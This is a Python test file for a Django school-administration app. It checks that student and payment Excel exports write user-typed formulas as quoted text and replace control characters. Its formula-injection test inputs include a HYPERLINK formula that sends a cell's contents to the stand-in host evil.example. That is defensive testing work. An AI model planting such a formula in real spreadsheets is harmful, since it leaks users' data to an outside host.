"""Every Excel export writes text as text: no formula from what a user typed, no character
a workbook cannot hold (core.xlsx)."""

import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from billing.services import package_create
from core import xlsx
from core.roles import Role
from students.models import Guardian, Student

from .bad_input_world import World, build_world

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)"]


@pytest.fixture
def world(db) -> World:
    return build_world()


def cells(content: bytes) -> list:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def no_formula_in(content: bytes) -> bool:
    with zipfile.ZipFile(BytesIO(content)) as book:
        return not any(b"<f>" in book.read(name) or b"<f " in book.read(name)
                       for name in book.namelist() if name.startswith("xl/worksheets/"))


def test_a_student_named_with_a_control_character_is_exported_not_a_500(world):
    # typed before control characters were refused, or written by another program
    Student.objects.filter(pk=world.student.pk).update(name="张\x07三\x1b", address="北京\x0c路")
    response = world.page(Role.FRONT_DESK).get("/students/export.xlsx")
    assert response.status_code == 200
    names = [c.value for c in cells(response.content)]
    assert "张\ufffd三\ufffd" in names and "北京\ufffd路" in names


def test_formulas_typed_into_a_student_file_come_out_as_text(world):
    student = world.student
    Student.objects.filter(pk=student.pk).update(name=FORMULAS[0], address=FORMULAS[1], school=FORMULAS[2],
                                                  grade=FORMULAS[4])
    Guardian.objects.filter(student=student).update(name=FORMULAS[3])
    content = world.page(Role.FRONT_DESK).get("/students/export.xlsx").content
    assert no_formula_in(content)
    found = {c.value: c for c in cells(content) if c.value in FORMULAS}
    assert set(found) == set(FORMULAS)
    assert all(c.data_type == "s" for c in found.values())


def test_a_payment_export_keeps_names_courses_and_notes_as_text(world):
    student = world.student
    Student.objects.filter(pk=student.pk).update(name="=1+1\x07")
    today = timezone.localdate()
    package = package_create(
        student=Student.objects.get(pk=student.pk), course=FORMULAS[0], kind="one_on_one", lessons=10,
        bonus_lessons=0, price=Decimal("100.00"), paid=Decimal("50.00"), valid_from=today,
        valid_until=today + timedelta(days=30), by=world.staff[Role.FRONT_DESK],
    )
    world.api[Role.FRONT_DESK].post(f"/api/v1/packages/{package.pk}/payments",
                                    {"amount": "10.00", "note": "@SUM(1,1)"})
    response = world.page(Role.FINANCE).get("/billing/payments/", {"export": "xlsx"})
    assert response.status_code == 200
    assert no_formula_in(response.content)
    values = {c.value for c in cells(response.content)}
    assert {"=1+1\ufffd", FORMULAS[0], "@SUM(1,1)"} <= values


def test_a_cell_of_the_helper_is_text_and_quoted_when_it_looks_like_a_formula():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    xlsx.append(sheet, ["=1+1", "普通\ud800文字", 3, None, "a" * 40000])
    row = list(sheet.iter_rows())[0]
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == ("=1+1", "s", True)
    assert row[1].value == "普通\ufffd文字" and not row[1].quotePrefix
    assert row[2].value == 3 and row[3].value is None and len(row[4].value) == 32767


def test_the_list_sheet_keeps_the_same_rules_and_reads_back():
    sheet = xlsx.ListSheet("学员/名单", widths=(12, 8))
    sheet.append(["姓名", "金额"], bold=True)
    sheet.append(["=1+1", "普通\ud800文字", 3, None, "a" * 40000, Decimal("1234.50"), "<b>&", date(2014, 3, 1)])
    book = load_workbook(BytesIO(sheet.to_bytes()))
    assert book.sheetnames == ["学员 名单"]
    head, row = list(book.active.iter_rows())
    assert head[0].value == "姓名" and head[0].font.b and not row[0].font.b
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == ("=1+1", "s", True)
    assert row[1].value == "普通\ufffd文字" and not row[1].quotePrefix
    assert row[2].value == 3 and row[3].value is None and len(row[4].value) == 32767
    assert row[5].value == 1234.5 and row[5].number_format == "#,##0.00"
    assert row[6].value == "<b>&" and row[7].value == datetime(2014, 3, 1)


def test_every_excel_export_writes_through_the_one_helper():
    apps = ("core", "students", "billing", "scheduling", "cardreader", "retention", "tutoring")
    users = [
        path for app in apps for path in (ROOT / app).rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8") and path.name != "xlsx.py"
    ]
    assert users  # the exports are still found
    for path in users:
        text = path.read_text(encoding="utf-8")
        assert "sheet.append(" not in text and "ws.append(" not in text, path
